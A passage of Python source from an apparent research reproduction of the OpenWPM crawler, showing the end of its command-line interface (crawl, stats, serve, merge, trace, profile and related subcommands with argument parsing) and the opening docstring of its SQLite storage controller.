    print(f"error: no crawl database at {path!r}", file=sys.stderr)
    return None


def _cmd_stats(args: argparse.Namespace) -> int:
    import os

    from repro.obs.export import metrics_to_prometheus, snapshot_to_json
    from repro.obs.journal import journal_path_for
    from repro.obs.stats import build_crawl_report, render_crawl_report

    result = None
    if args.db is not None and not args.fresh:
        from repro.openwpm.storage import StorageController

        if _database_path(args.db) is None:
            return 2
        storage = StorageController(args.db)
        cleanup = storage.close
    elif args.bundle is not None:
        # Reporting on a bundle alone must not kick off a crawl.
        from repro.openwpm.storage import StorageController

        storage = StorageController(":memory:")
        cleanup = storage.close
    else:
        from repro.obs.runner import run_telemetry_crawl

        result = run_telemetry_crawl(
            site_count=args.sites, seed=args.seed,
            database_path=args.db or ":memory:",
            crash_probability=args.crash_probability,
            browsers=args.browsers,
            js_instrument=args.js_instrument,
            web="tranco" if args.tranco else "lab")
        storage = result.storage
        cleanup = result.close

    journal_dir = args.journal
    if journal_dir is None and args.db is not None:
        # A crawl recorded with --journal left its directory beside the
        # database; reconcile against it automatically when present.
        candidate = journal_path_for(args.db)
        if candidate is not None and os.path.isdir(candidate):
            journal_dir = candidate

    queue = None
    corpus = None
    bundle = None
    try:
        if args.queue is not None:
            from repro.sched import JobQueue

            queue = JobQueue(args.queue)
        if args.corpus is not None:
            from repro.corpus import ScriptCorpus

            corpus = ScriptCorpus(args.corpus)
        if args.bundle is not None:
            from repro.bundles import Bundle, BundleError

            try:
                bundle = Bundle(args.bundle, allow_incomplete=True)
            except BundleError as exc:
                print(f"error: {exc}", file=sys.stderr)
                return 2
        report = build_crawl_report(storage, queue=queue, corpus=corpus,
                                    journal_dir=journal_dir,
                                    bundle=bundle)
        if args.output is not None:
            with open(args.output, "w", encoding="utf-8") as handle:
                handle.write(snapshot_to_json(report) + "\n")
        if args.json:
            print(snapshot_to_json(report))
        elif args.prometheus:
            print(metrics_to_prometheus(storage.telemetry_metrics()))
        else:
            print(render_crawl_report(report))
        return 0 if report["reconciled"] or not report["reconciliation"] \
            else 1
    finally:
        if queue is not None:
            queue.close()
        if corpus is not None:
            corpus.close()
        if bundle is not None:
            bundle.close()
        cleanup()


def _cmd_serve(args: argparse.Namespace) -> int:
    mode = None
    databases = [args.db] + list(args.extra)
    if args.db in ("build", "verify"):
        if len(args.extra) != 1:
            print(f"error: 'serve {args.db}' needs exactly one "
                  f"database path", file=sys.stderr)
            return 2
        mode, databases = args.db, [args.extra[0]]
    checked = []
    for database in databases:
        database = _database_path(database)
        if database is None:
            return 2
        checked.append(database)

    if mode is not None:
        import sqlite3

        from repro.serve import build, verify

        connection = sqlite3.connect(checked[0])
        try:
            if mode == "build":
                print(json.dumps(build(connection), sort_keys=True))
                return 0
            report = verify(connection)
            print(json.dumps(report, sort_keys=True))
            return 0 if report["ok"] else 1
        finally:
            connection.close()

    from repro.serve import ResultServer, ServeError

    try:
        server = ResultServer(
            checked if len(checked) > 1 else checked[0],
            host=args.host, port=args.port,
            cache_capacity=args.cache_capacity,
            cache_ttl=args.cache_ttl)
    except ServeError as exc:
        print(f"error: {exc}", file=sys.stderr)
        return 2
    port = server.start()
    # The bound port line is machine-read (tests, the CI smoke job
    # curl loop) — keep it first and on one line.
    print(f"serving {' '.join(checked)} at http://{args.host}:{port}",
          flush=True)
    try:
        server.serve_forever()
    finally:
        server.close()
    return 0


def _cmd_merge(args: argparse.Namespace) -> int:
    import glob

    from repro.openwpm.merge import merge_shards
    from repro.openwpm.storage_shard import is_shard_database

    shard_paths: List[str] = []
    for spec in args.shards:
        if os.path.isdir(spec):
            # A crawl's <db>.shards/ directory: every worker shard in
            # slot order, plus the coordinator's reclaim shard.
            found = sorted(glob.glob(
                os.path.join(spec, "shard-*.sqlite")))
            coordinator = os.path.join(spec, "coordinator.sqlite")
            if os.path.isfile(coordinator):
                found.append(coordinator)
            if not found:
                print(f"error: no shard databases under {spec!r}",
                      file=sys.stderr)
                return 2
            shard_paths.extend(found)
        elif os.path.isfile(spec):
            shard_paths.append(spec)
        else:
            print(f"error: no shard database at {spec!r}",
                  file=sys.stderr)
            return 2
    for path in shard_paths:
        if not is_shard_database(path):
            print(f"error: {path!r} is not a shard database "
                  f"(missing shard_jobs bookkeeping)", file=sys.stderr)
            return 2
    queue = None
    try:
        if args.queue is not None:
            from repro.sched import JobQueue

            queue = JobQueue(args.queue)
        report = merge_shards(shard_paths, database_path=args.out,
                              queue=queue)
    finally:
        if queue is not None:
            queue.close()
    print(json.dumps(report.to_dict(), indent=2, sort_keys=True))
    return 0 if not report.attempts_unresolved else 1


def _site_list(spec: str) -> "tuple[int, list | None]":
    """``--sites`` is a count, or a path to a file of URLs."""
    try:
        return int(spec), None
    except ValueError:
        pass
    with open(spec) as handle:
        urls = [line.strip() for line in handle
                if line.strip() and not line.lstrip().startswith("#")]
    return len(urls), urls


def _cmd_crawl(args: argparse.Namespace) -> int:
    from repro.obs.runner import run_telemetry_crawl

    if args.workers < 1:
        print("error: --workers must be >= 1", file=sys.stderr)
        return 2
    if args.worker_procs is not None:
        if args.worker_procs < 1:
            print("error: --worker-procs must be >= 1", file=sys.stderr)
            return 2
        if args.record is not None or args.replay is not None:
            print("error: --worker-procs cannot be combined with "
                  "--record/--replay (bundle hooks live on the "
                  "coordinator's network, which worker processes "
                  "never touch)", file=sys.stderr)
            return 2
        if args.shard_dbs and args.db == ":memory:":
            print("error: --shard-dbs needs a file-backed --db "
                  "(shards live at <db>.shards/ and merge into it)",
                  file=sys.stderr)
            return 2
    elif args.shard_dbs or args.pin_cpus:
        print("error: --shard-dbs/--pin-cpus require --worker-procs",
              file=sys.stderr)
        return 2
    if args.record is not None and args.resume:
        print("error: --record archives one complete crawl; it cannot "
              "be combined with --resume", file=sys.stderr)
        return 2
    if args.replay is not None:
        # The bundle names the sites; --sites is ignored.
        from repro.bundles import Bundle, BundleError

        try:
            with_bundle = Bundle(args.replay)
        except BundleError as exc:
            print(f"error: {exc}", file=sys.stderr)
            return 2
        urls = list(with_bundle.sites())
        site_count = len(urls)
        with_bundle.close()
    else:
        try:
            site_count, urls = _site_list(args.sites)
        except OSError as exc:
            print(f"error: --sites file unreadable: {exc}",
                  file=sys.stderr)
            return 2
    queue_path = args.queue
    if queue_path is None:
        queue_path = ":memory:" if args.db == ":memory:" \
            else f"{args.db}.queue"
    if args.resume and queue_path == ":memory:":
        print("error: --resume needs a file-backed queue "
              "(pass --db or --queue)", file=sys.stderr)
        return 2
    if args.worker_procs is not None and queue_path == ":memory:":
        print("error: --worker-procs needs a file-backed queue "
              "(pass --db or --queue); worker processes cannot share "
              "an in-memory queue", file=sys.stderr)
        return 2
    fault_plan = None
    if args.fault_plan is not None:
        from repro.faults import FaultPlan

        try:
            fault_plan = FaultPlan.from_json_file(args.fault_plan)
        except (OSError, ValueError) as exc:
            print(f"error: --fault-plan unreadable: {exc}",
                  file=sys.stderr)
            return 2
    journal_dir = None
    if args.journal is not None:
        if args.journal != "auto":
            journal_dir = args.journal
        else:
            from repro.obs.journal import journal_path_for

            journal_dir = journal_path_for(args.db)
            if journal_dir is None:
                print("error: --journal with an in-memory --db needs "
                      "an explicit directory (--journal DIR)",
                      file=sys.stderr)
                return 2

    result = run_telemetry_crawl(
        site_count=site_count, seed=args.seed,
        database_path=args.db,
        crash_probability=args.crash_probability,
        browsers=1 if args.worker_procs is not None else args.workers,
        dwell=args.dwell,
        web=args.web, urls=urls,
        workers=None if args.worker_procs is not None
        else args.workers,
        worker_procs=args.worker_procs,
        heartbeat_deadline=args.heartbeat_deadline,
        respawn_limit=args.respawn_limit,
        queue_path=queue_path,
        resume=args.resume, stop_after_jobs=args.stop_after,
        fault_plan=fault_plan,
        stage_deadline=args.stage_deadline,
        quarantine_after=args.quarantine_after,
        journal_dir=journal_dir, profile=args.profile,
        record_dir=args.record, replay_dir=args.replay,
        shard_dbs=args.shard_dbs, pin_cpus=args.pin_cpus)
    report = result.report
    try:
        payload = {
            "sites": site_count,
            "workers": report.workers,
            "queue": queue_path,
            "journal": journal_dir,
            "resumed": args.resume,
            "released_leases": report.released_leases,
            "completed": report.completed,
            "failed": report.failed,
            "retried": report.retried,
            "reclaimed": report.reclaimed,
            "worker_deaths": report.worker_deaths,
            "lease_lost": report.lease_lost,
            "interrupted": report.interrupted,
            "queue_counts": report.counts,
            "drained": report.drained,
        }
        if args.record is not None:
            payload["bundle"] = result.recorder.writer.manifest.get(
                "counts") if result.recorder is not None else None
            payload["record"] = args.record
        if args.replay is not None:
            payload["replay"] = args.replay
            network = result.manager.network
            payload["replay_misses"] = network.replay_misses
        if result.profiler is not None:
            payload["hot_scripts"] = result.profiler.hot_scripts(5)
        if args.json:
            print(json.dumps(payload, indent=2))
        else:
            print(f"crawl: {report.completed} completed, "
                  f"{report.failed} failed, {report.retried} retried "
                  f"on {report.workers} worker(s)")
            print("queue: " + ", ".join(
                f"{state}={count}"
                for state, count in sorted(report.counts.items())))
            if journal_dir is not None:
                print(f"journal: {journal_dir}")
            if args.record is not None:
                print(f"bundle: recorded to {args.record}")
            if args.replay is not None:
                print(f"replay: served from {args.replay} "
                      f"({payload['replay_misses']} misses)")
            for row in (payload.get("hot_scripts") or [])[:3]:
                print(f"hot script: {row['ops']} ops  "
                      f"{row['script_hash'][:16]}  {row['script_url']}")
            if not report.drained:
                print(f"queue not drained — rerun with --resume "
                      f"--queue {queue_path} to finish")
        return 0 if report.drained else 1
    finally:
        result.close()


def _resolve_journal_dir(source: str) -> Optional[str]:
    """*source* as a journal directory: itself, or ``<db>.journal``."""
    import os

    from repro.obs.journal import journal_path_for

    if os.path.isdir(source):
        return source
    candidate = journal_path_for(source)
    if candidate is not None and os.path.isdir(candidate):
        return candidate
    return None


def _cmd_trace(args: argparse.Namespace) -> int:
    import os

    from repro.obs.journal import merge_journal
    from repro.obs.trace import (
        chrome_trace_to_json,
        journal_to_chrome_trace,
        spans_to_chrome_trace,
    )

    journal_dir = _resolve_journal_dir(args.source)
    if journal_dir is not None:
        trace = journal_to_chrome_trace(merge_journal(journal_dir))
    elif _database_path(args.source) is not None:
        # Pre-journal crawl database: fall back to the persisted
        # telemetry span table (spans only, no instants).
        from repro.openwpm.storage import StorageController

        storage = StorageController(args.source)
        try:
            trace = spans_to_chrome_trace(storage.telemetry_spans())
        finally:
            storage.close()
    else:
        return 2
    text = chrome_trace_to_json(trace)
    if args.output is not None:
        with open(args.output, "w", encoding="utf-8") as handle:
            handle.write(text)
        print(f"wrote {len(trace['traceEvents'])} trace events "
              f"to {args.output}")
    else:
        print(text, end="")
    return 0


def _cmd_profile(args: argparse.Namespace) -> int:
    from repro.obs.journal import merge_journal

    journal_dir = _resolve_journal_dir(args.source)
    if journal_dir is None:
        if _database_path(args.source) is not None:
            print(f"error: {args.source!r} has no journal sidecar "
                  f"(crawl with --journal --profile first)",
                  file=sys.stderr)
        return 2
    events = merge_journal(journal_dir)
    profile_events = [event for event in events
                      if event.get("type") in ("profile_script",
                                               "profile_function")]
    if not profile_events:
        print("error: journal has no profiler events "
              "(crawl with --profile)", file=sys.stderr)
        return 1
    # Each run journals its own end-of-run aggregates; report the
    # latest run's profile.
    last_epoch = max(int(event.get("epoch") or 0)
                     for event in profile_events)
    profile_events = [event for event in profile_events
                      if int(event.get("epoch") or 0) == last_epoch]
    scripts = sorted(
        (event for event in profile_events
         if event["type"] == "profile_script"),
        key=lambda e: (-int(e.get("ops") or 0),
                       str(e.get("script_hash"))))
    functions = sorted(
        (event for event in profile_events
         if event["type"] == "profile_function"),
        key=lambda e: (-int(e.get("self_ops") or 0),
                       str(e.get("script_url")),
                       str(e.get("function"))))

    corpus = None
    if args.corpus is not None:
        from repro.corpus import ScriptCorpus

        corpus = ScriptCorpus(args.corpus)
    try:
        script_rows = []
        for event in scripts[:args.top]:
            row = {"script_hash": event.get("script_hash"),
                   "script_url": event.get("script_url"),
                   "ops": int(event.get("ops") or 0),
                   "runs": int(event.get("runs") or 0)}
            if corpus is not None:
                row["in_corpus"] = corpus.has(str(row["script_hash"]))
            script_rows.append(row)
        function_rows = [
            {"script_url": event.get("script_url"),
             "function": event.get("function"),
             "self_ops": int(event.get("self_ops") or 0),
             "total_ops": int(event.get("total_ops") or 0),
             "calls": int(event.get("calls") or 0)}
            for event in functions[:args.top]]
        if args.json:
            print(json.dumps({"epoch": last_epoch,
                              "scripts": script_rows,
                              "functions": function_rows}, indent=2))
            return 0
        print(f"JS-engine profile (journal epoch {last_epoch})")
        print(f"{'ops':>10}  {'runs':>5}  script")
        for row in script_rows:
            mark = ""
            if "in_corpus" in row:
                mark = "  [corpus]" if row["in_corpus"] \
                    else "  [not in corpus]"
            print(f"{row['ops']:>10}  {row['runs']:>5}  "
                  f"{str(row['script_hash'])[:16]}  "
                  f"{row['script_url']}{mark}")
        if args.functions:
            print()
            print(f"{'self ops':>10}  {'total':>10}  {'calls':>6}  "
                  f"function")
            for row in function_rows:
                print(f"{row['self_ops']:>10}  {row['total_ops']:>10}  "
                      f"{row['calls']:>6}  {row['function']}  "
                      f"({row['script_url']})")
        return 0
    finally:
        if corpus is not None:
            corpus.close()


def _format_tail_event(event: dict) -> str:
    rest = {key: value for key, value in sorted(event.items())
            if key not in ("type", "worker", "epoch", "t", "seq")}
    detail = " ".join(f"{key}={value}" for key, value in rest.items())
    return (f"[{event.get('epoch', 0)}:{event.get('t', 0.0):>10.3f} "
            f"{event.get('worker', '?'):<10}] "
            f"{event.get('type', '?')}" + (f" {detail}" if detail else ""))


def _cmd_tail(args: argparse.Namespace) -> int:
    import time

    from repro.obs.journal import merge_journal

    journal_dir = _resolve_journal_dir(args.source)
    if journal_dir is None:
        print(f"error: no journal directory at {args.source!r}",
              file=sys.stderr)
        return 2
    types = set(args.type) if args.type else None

    def wanted(event: dict) -> bool:
        return types is None or event.get("type") in types

    events = [event for event in merge_journal(journal_dir)
              if wanted(event)]
    for event in events[-args.max_events:] if args.max_events else events:
        print(_format_tail_event(event))
    if not args.follow:
        return 0
    seen = len(events)
    try:
        while True:
            time.sleep(args.interval)
            events = [event for event in merge_journal(journal_dir)
                      if wanted(event)]
            for event in events[seen:]:
                print(_format_tail_event(event), flush=True)
            seen = len(events)
    except KeyboardInterrupt:
        return 0


def _cmd_fidelity(args: argparse.Namespace) -> int:
    from repro.bundles import (
        Bundle,
        BundleError,
        diff_bundles,
        render_fidelity_report,
    )

    original = replay = None
    try:
        try:
            original = Bundle(args.original)
            replay = Bundle(args.replay)
        except BundleError as exc:
            print(f"error: {exc}", file=sys.stderr)
            return 2
        report = diff_bundles(original, replay)
        if args.output is not None:
            with open(args.output, "w", encoding="utf-8") as handle:
                handle.write(json.dumps(report, indent=2) + "\n")
        if args.json:
            print(json.dumps(report, indent=2))
        else:
            print(render_fidelity_report(report), end="")
        return 0 if report["zero_diffs"] else 1
    finally:
        if original is not None:
            original.close()
        if replay is not None:
            replay.close()


def _cmd_corpus_verify(args: argparse.Namespace) -> int:
    import os

    from repro.bundles import Bundle, BundleError, is_bundle_dir
    from repro.corpus import ScriptCorpus

    bundle = None
    if is_bundle_dir(args.path):
        try:
            bundle = Bundle(args.path, allow_incomplete=True)
        except BundleError as exc:
            print(f"error: {exc}", file=sys.stderr)
            return 2
        corpus = bundle.store
    elif os.path.isfile(args.path):
        corpus = ScriptCorpus(args.path)
    else:
        print(f"error: {args.path!r} is neither a corpus database nor "
              f"a bundle directory", file=sys.stderr)
        return 2
    try:
        report = corpus.verify()
        if bundle is not None:
            # Beyond blob integrity: every content address the bundle's
            # manifest rows reference must resolve in the store.
            dangling = []
            for context, digest in bundle.refs():
                if not corpus.has(digest):
                    dangling.append({"context": context,
                                     "hash": digest})
            report["dangling_refs"] = dangling
            report["ok"] = report["ok"] and not dangling
        if args.json:
            print(json.dumps(report, indent=2))
        else:
            print(f"corpus verify: {args.path}")
            print(f"  bodies checked ......... "
                  f"{report['bodies_checked']}")
            print(f"  corrupt ................ {len(report['corrupt'])}")
            for entry in report["corrupt"][:10]:
                print(f"    {entry['hash']}  {entry['error']}")
            print(f"  orphaned occurrences ... "
                  f"{len(report['orphaned_occurrences'])} "
                  f"(staged: {len(report['orphaned_staged'])}, "
                  f"analysis: {len(report['orphaned_analysis'])})")
            if report["refcount_drift"]:
                print(f"  refcount drift ......... "
                      f"{len(report['refcount_drift'])} script(s)")
            if bundle is not None:
                print(f"  dangling bundle refs ... "
                      f"{len(report['dangling_refs'])}")
                for entry in report["dangling_refs"][:10]:
                    print(f"    {entry['hash']}  ({entry['context']})")
            print("INTACT" if report["ok"] else "CORRUPT")
        return 0 if report["ok"] else 1
    finally:
        if bundle is not None:
            bundle.close()
        else:
            corpus.close()


def _cmd_survey(args: argparse.Namespace) -> int:
    from repro.literature import outdated_statistics, summarise_studies

    print(json.dumps({
        "table1": summarise_studies(),
        "table14": outdated_statistics(),
    }, indent=2))
    return 0


def build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="repro", description=__doc__,
        formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = parser.add_subparsers(dest="command", required=True)

    audit = sub.add_parser("audit", help="fingerprint surface (Sec. 3)")
    audit.add_argument("--os", choices=["ubuntu", "macos"],
                       default="ubuntu")
    audit.add_argument("--mode", choices=["regular", "headless", "xvfb",
                                          "docker"], default="regular")
    audit.add_argument("--no-instrument", action="store_true",
                       help="audit without the JS instrument")
    audit.set_defaults(fn=_cmd_audit)

    scan = sub.add_parser("scan", help="detector scan (Sec. 4)")
    scan.add_argument("--sites", type=int, default=500)
    scan.add_argument("--seed", type=int, default=7)
    scan.add_argument("--front-only", action="store_true")
    scan.add_argument("--workers", type=int, default=1,
                      help="scan worker threads (one browser each)")
    scan.add_argument("--worker-procs", type=int, default=None,
                      metavar="N",
                      help="scan on N supervised worker processes "
                           "instead of threads (needs --queue)")
    scan.add_argument("--shard-dbs", action="store_true",
                      help="with --worker-procs: workers spool "
                           "evidence into private shard databases "
                           "(<queue>.shards/), folded "
                           "deterministically at scan end instead of "
                           "shipping every payload to the coordinator")
    scan.add_argument("--pin-cpus", action="store_true",
                      help="with --worker-procs: pin each worker slot "
                           "to one CPU (no-op with a warning where "
                           "unsupported)")
    scan.add_argument("--queue", default=":memory:",
                      help="queue database path; evidence and the "
                           "script corpus persist to <queue>.scan / "
                           "<queue>.corpus sidecars")
    scan.add_argument("--resume", action="store_true",
                      help="reopen the queue and scan only the "
                           "remainder (needs --queue)")
    scan.add_argument("--record", default=None, metavar="DIR",
                      help="archive every visit into an execution "
                           "bundle at DIR (record/replay)")
    scan.add_argument("--replay", default=None, metavar="DIR",
                      help="serve the whole scan from the bundle at "
                           "DIR instead of the synthetic web")
    scan.add_argument("--offline", action="store_true",
                      help="with --replay: skip browser re-execution "
                           "and re-run only the detector pipeline over "
                           "the archived evidence (fast re-analysis)")
    scan.set_defaults(fn=_cmd_scan)

    attack = sub.add_parser("attack", help="recording attacks (Sec. 5)")
    attack.set_defaults(fn=_cmd_attack)

    compare = sub.add_parser("compare",
                             help="WPM vs WPM_hide crawl (Sec. 6.3)")
    compare.add_argument("--sites", type=int, default=400)
    compare.add_argument("--seed", type=int, default=7)
    compare.add_argument("--repetitions", type=int, default=3)
    compare.set_defaults(fn=_cmd_compare)

    survey = sub.add_parser("survey",
                            help="literature datasets (Tables 1/14)")
    survey.set_defaults(fn=_cmd_survey)

    stats = sub.add_parser(
        "stats", help="crawl health / loss-accounting report")
    stats.add_argument("--db", default=None,
                       help="existing crawl database to report on "
                            "(default: run a fresh instrumented crawl)")
    stats.add_argument("--fresh", action="store_true",
                       help="crawl into --db even if it exists")
    stats.add_argument("--sites", type=int, default=1000)
    stats.add_argument("--seed", type=int, default=7)
    stats.add_argument("--crash-probability", type=float, default=0.05)
    stats.add_argument("--browsers", type=int, default=2)
    stats.add_argument("--js-instrument", action="store_true",
                       help="enable the JS instrument on the fresh crawl")
    stats.add_argument("--tranco", action="store_true",
                       help="crawl the synthetic Tranco web instead of "
                            "the lab site")
    stats.add_argument("--json", action="store_true",
                       help="emit the report as JSON")
    stats.add_argument("--prometheus", action="store_true",
                       help="emit metrics in Prometheus text format")
    stats.add_argument("--queue", default=None,
                       help="scheduler queue database to reconcile "
                            "against the crawl data")
    stats.add_argument("--corpus", default=None,
                       help="script-corpus database (<queue>.corpus) "
                            "to report dedup / cache effectiveness on")
    stats.add_argument("--journal", default=None, metavar="DIR",
                       help="flight-recorder journal directory to "
                            "reconcile against (default: <db>.journal "
                            "when present)")
    stats.add_argument("--bundle", default=None, metavar="DIR",
                       help="execution bundle to report coverage and "
                            "store size on")
    stats.add_argument("--output", default=None, metavar="PATH",
                       help="also write the JSON report to PATH")
    stats.set_defaults(fn=_cmd_stats)

    serve = sub.add_parser(
        "serve", help="query API over crawl database(s) (rollups)")
    serve.add_argument("db",
                       help="crawl database to serve; or the word "
                            "'build' / 'verify' followed by the "
                            "database to backfill / differential-check "
                            "its rollup tables and exit")
    serve.add_argument("extra", nargs="*", default=[],
                       metavar="DB",
                       help="more databases to serve as one fan-out "
                            "view (aggregates merged at query time); "
                            "or the database path for 'serve build' / "
                            "'serve verify'")
    serve.add_argument("--host", default="127.0.0.1",
                       help="bind address (default 127.0.0.1)")
    serve.add_argument("--port", type=int, default=0,
                       help="bind port; 0 picks an ephemeral port, "
                            "printed on the first output line")
    serve.add_argument("--cache-capacity", type=int, default=512,
                       help="response-cache entries (0 disables)")
    serve.add_argument("--cache-ttl", type=float, default=30.0,
                       help="response-cache TTL in seconds")
    serve.set_defaults(fn=_cmd_serve)

    crawl = sub.add_parser(
        "crawl", help="scheduled crawl (worker pool + resumable queue)")
    crawl.add_argument("--sites", default="200",
                       help="site count, or a path to a file of URLs "
                            "(one per line)")
    crawl.add_argument("--workers", type=int, default=4,
                       help="worker threads, one browser slot each")
    crawl.add_argument("--worker-procs", type=int, default=None,
                       metavar="N",
                       help="crawl on N supervised worker processes "
                            "instead of threads: process isolation, "
                            "heartbeat/SIGKILL supervision, and a "
                            "single-writer storage broker (needs a "
                            "file-backed --db or --queue)")
    crawl.add_argument("--heartbeat-deadline", type=float, default=None,
                       metavar="SECONDS",
                       help="with --worker-procs: SIGKILL a worker "
                            "silent for this many real seconds")
    crawl.add_argument("--respawn-limit", type=int, default=None,
                       metavar="N",
                       help="with --worker-procs: abnormal deaths per "
                            "slot before the pool shrinks")
    crawl.add_argument("--shard-dbs", action="store_true",
                       help="with --worker-procs: each worker writes a "
                            "private shard database (<db>.shards/), "
                            "merged deterministically into --db at "
                            "crawl end — no broker round-trip (needs "
                            "a file-backed --db)")
    crawl.add_argument("--pin-cpus", action="store_true",
                       help="with --worker-procs: pin each worker slot "
                            "to one CPU (no-op with a warning where "
                            "unsupported)")
    crawl.add_argument("--db", default=":memory:",
                       help="crawl database path")
    crawl.add_argument("--queue", default=None,
                       help="queue database path "
                            "(default: <db>.queue, or in-memory)")
    crawl.add_argument("--resume", action="store_true",
                       help="reopen the queue and crawl only the "
                            "remainder")
    crawl.add_argument("--stop-after", type=int, default=None,
                       help="stop gracefully after N jobs finish "
                            "(for testing interruption)")
    crawl.add_argument("--web", choices=["lab", "tranco"], default="lab")
    crawl.add_argument("--seed", type=int, default=7)
    crawl.add_argument("--crash-probability", type=float, default=0.05)
    crawl.add_argument("--dwell", type=float, default=1.0)
    crawl.add_argument("--fault-plan", default=None, metavar="PATH",
                       help="JSON fault plan to inject (chaos testing); "
                            "see repro.faults.FaultPlan")
    crawl.add_argument("--stage-deadline", type=float, default=None,
                       metavar="SECONDS",
                       help="watchdog deadline per visit stage "
                            "(virtual seconds); hung visits are aborted "
                            "and the browser slot restarted")
    crawl.add_argument("--quarantine-after", type=int, default=None,
                       metavar="N",
                       help="quarantine a site after N crash/hang "
                            "failures (circuit breaker)")
    crawl.add_argument("--journal", nargs="?", const="auto", default=None,
                       metavar="DIR",
                       help="record a flight-recorder journal "
                            "(default directory: <db>.journal)")
    crawl.add_argument("--profile", action="store_true",
                       help="profile the JS engine (op counts per "
                            "script/function, journalled at crawl end)")
    crawl.add_argument("--record", default=None, metavar="DIR",
                       help="archive every visit into an execution "
                            "bundle at DIR (record/replay)")
    crawl.add_argument("--replay", default=None, metavar="DIR",
                       help="serve the whole crawl from the bundle at "
                            "DIR instead of a live web (--sites is "
                            "then taken from the bundle)")
    crawl.add_argument("--json", action="store_true",
                       help="emit the crawl report as JSON")
    crawl.set_defaults(fn=_cmd_crawl)

    merge = sub.add_parser(
        "merge", help="fold shard databases (--shard-dbs) into one "
                      "canonical crawl database, deterministically")
    merge.add_argument("shards", nargs="+",
                       help="shard database files, or a <db>.shards/ "
                            "directory (expands to every worker shard "
                            "plus the coordinator shard)")
    merge.add_argument("out",
                       help="output crawl database (wiped first if it "
                            "already holds crawl data)")
    merge.add_argument("--queue", default=None, metavar="PATH",
                       help="the crawl's queue database, used to "
                            "resolve attempts a crashed worker left "
                            "provisional (otherwise they are counted "
                            "as unresolved and skipped; exit 1)")
    merge.set_defaults(fn=_cmd_merge)

    fidelity = sub.add_parser(
        "fidelity", help="score a replayed bundle against its "
                         "recording (resources, traces, verdicts)")
    fidelity.add_argument("original",
                          help="the bundle recorded from the live "
                               "crawl")
    fidelity.add_argument("replay",
                          help="the bundle re-recorded while replaying "
                               "(crawl --replay ORIGINAL --record "
                               "REPLAY)")
    fidelity.add_argument("--json", action="store_true",
                          help="emit the report as JSON")
    fidelity.add_argument("--output", default=None, metavar="PATH",
                          help="also write the JSON report to PATH")
    fidelity.set_defaults(fn=_cmd_fidelity)

    corpus = sub.add_parser(
        "corpus", help="content-addressed store maintenance")
    corpus_sub = corpus.add_subparsers(dest="corpus_command",
                                       required=True)
    corpus_verify = corpus_sub.add_parser(
        "verify", help="re-hash every stored blob against its content "
                       "address; report corruption and orphans")
    corpus_verify.add_argument("path",
                               help="corpus database (<queue>.corpus) "
                                    "or bundle directory")
    corpus_verify.add_argument("--json", action="store_true",
                               help="emit the report as JSON")
    corpus_verify.set_defaults(fn=_cmd_corpus_verify)

    trace = sub.add_parser(
        "trace", help="export Chrome trace-event JSON (Perfetto)")
    trace.add_argument("source",
                       help="journal directory, or a crawl database "
                            "(uses <db>.journal, falling back to the "
                            "telemetry span table)")
    trace.add_argument("--output", default=None, metavar="PATH",
                       help="write the trace JSON to PATH "
                            "(default: stdout)")
    trace.set_defaults(fn=_cmd_trace)

    profile = sub.add_parser(
        "profile", help="JS-engine profile: hot scripts by op count")
    profile.add_argument("source",
                         help="journal directory or crawl database "
                              "(crawl with --journal --profile)")
    profile.add_argument("--top", type=int, default=10,
                         help="rows per table (default 10)")
    profile.add_argument("--functions", action="store_true",
                         help="also print the hot-function table")
    profile.add_argument("--corpus", default=None, metavar="PATH",
                         help="script-corpus database to join hot "
                              "scripts against by content hash")
    profile.add_argument("--json", action="store_true",
                         help="emit the profile as JSON")
    profile.set_defaults(fn=_cmd_profile)

    tail = sub.add_parser(
        "tail", help="print (or follow) the merged journal")
    tail.add_argument("source",
                      help="journal directory or crawl database")
    tail.add_argument("--follow", action="store_true",
                      help="keep polling for new events (Ctrl-C stops)")
    tail.add_argument("--interval", type=float, default=0.5,
                      help="poll interval in (real) seconds with "
                           "--follow")
    tail.add_argument("--max-events", type=int, default=None,
                      metavar="N", help="print only the last N events")
    tail.add_argument("--type", action="append", default=None,
                      metavar="TYPE",
                      help="only events of TYPE (repeatable)")
    tail.set_defaults(fn=_cmd_tail)
    return parser


def main(argv: Optional[List[str]] = None) -> int:
    parser = build_parser()
    args = parser.parse_args(argv)
    try:
        return args.fn(args)
    except BrokenPipeError:
        # Downstream pipe closed early (e.g. ``repro profile | head``).
        # Detach stdout so the interpreter's shutdown flush doesn't
        # raise a second time, and exit with the conventional 128+SIGPIPE.
        devnull = os.open(os.devnull, os.O_WRONLY)
        os.dup2(devnull, sys.stdout.fileno())
        return 141


if __name__ == "__main__":
    sys.exit(main())

"""SQLite storage controller.

Mirrors OpenWPM's data model: ``site_visits``, ``http_requests``,
``http_responses``, ``javascript`` (the JS-call log), ``javascript_cookies``,
``content`` (archived response bodies), and ``crash_history`` — plus two
reliability tables this reproduction adds: ``failed_visits`` (one row per
site the task manager gave up on, so crawl loss is queryable) and
``telemetry`` (persisted span/metric snapshots from ``repro.obs``, the
basis of ``python -m repro stats``).

Two properties the paper verifies live here:

* RQ6 sanitisation — ``top_level_url`` and ``visit_id`` on JS records are
  set by the controller from its own visit context, never taken from the
  (page-forgeable) event payload;
* RQ7 injection safety — every statement is parameterised; hostile
  strings in any field cannot alter previously stored rows.

Concurrency model (the scheduler's worker threads share one
controller): every database access runs under one re-entrant lock — the
serialized-writer role OpenWPM's real storage controller fills with its
listener queue — and the visit context is kept *per browser*
(``browser_id -> VisitContext``) instead of one shared slot. A record
arriving outside any visit for its browser raises
:class:`VisitStateError` rather than landing on a stale context; each
browser's instruments write through a :class:`BrowserStorageHandle`
that pins their ``browser_id`` explicitly.

Write path: visit-scoped records (http_requests, http_responses,
javascript, javascript_cookies, content) are buffered in per-table
lists and flushed with one ``executemany`` per table — one transaction
per visit instead of one ``execute`` per record. Rows keep their
arrival order within each table, so AUTOINCREMENT ids are identical to
the per-record scheme. Every read (``query``) and every retraction
(``abort_visit`` / ``delete_visit``) flushes first, so buffered rows
are always visible to callers and an expired-lease retraction removes
batched-but-unflushed rows along with committed ones.

Serving hooks: the controller owns a
:class:`repro.serve.rollups.RollupMaintainer` that folds every
mutation — visit commits, broker imports, and all retractions — into
the read-optimized ``rollups_*`` tables inside the same transaction as
the raw rows, so the serving layer's aggregates can never commit apart
from the ground truth they summarise. Each visit's contribution is
accumulated record-by-record on its :class:`VisitContext` (aborted
visits simply drop it); visit-less ``content`` rows are booked at
flush time from the post-dedup insert count. ``REPRO_ROLLUPS=off``
